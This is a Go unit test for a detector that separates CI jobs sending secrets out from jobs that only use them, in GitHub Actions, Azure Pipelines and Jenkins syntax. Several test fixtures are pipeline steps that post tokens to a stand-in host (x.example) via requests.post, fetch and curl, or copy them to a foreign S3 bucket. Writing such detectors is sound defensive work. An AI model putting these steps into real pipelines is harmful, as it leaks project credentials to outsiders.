package call

import "testing"

// A job that sends what it keeps secret somewhere is told from one that uses it as services are used, in whatever it is written.
func TestJobsThatSendSecrets(t *testing.T) {
	for text, want := range map[string]bool{
		"- run: |\n    python - <<'E'\n    requests.post('https://x.example', data=os.environ['TOK'])\n    E\n  env:\n    TOK: ${{ secrets.TOK }}\n": true,
		"- with:\n    script: |\n      await fetch('https://x.example', {body: '${{ secrets.TOK }}'})\n":                                             true,
		"- run: echo \"${{ secrets.TOK }}\" | aws s3 cp - s3://somebody/t\n":                                                                         true,
		"- run: echo \"${{ secrets.TOK }}\" > t.txt\n- run: aws s3 cp t.txt s3://somebody/t\n":                                                       true,
		"- script: curl -d \"$(System.AccessToken)\" https://x.example\n":                                                                            true,
		jobOf("withCredentials([string(credentialsId: 'k', variable: 'TOK')]) {\n sh 'curl -d \"$TOK\" https://x.example'\n}\n"):                     true,
		jobOf("withCredentials([string(credentialsId: 'k', variable: 'NPM_TOKEN')]) {\n sh 'npm publish'\n}\n"):                                      false,
		"- run: npm publish\n  env:\n    NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n":                                                                false,
		"- run: aws s3 sync dist s3://site\n  env:\n    AWS_SECRET_ACCESS_KEY: ${{ secrets.KEY }}\n":                                                 false,
		"- bash: curl https://example.com/$(Build.BuildNumber)\n":                                                                                    false,
	} {
		if got := sendsSecrets(text); got != want {
			t.Errorf("%v for\n%s", got, text)
		}
	}
}
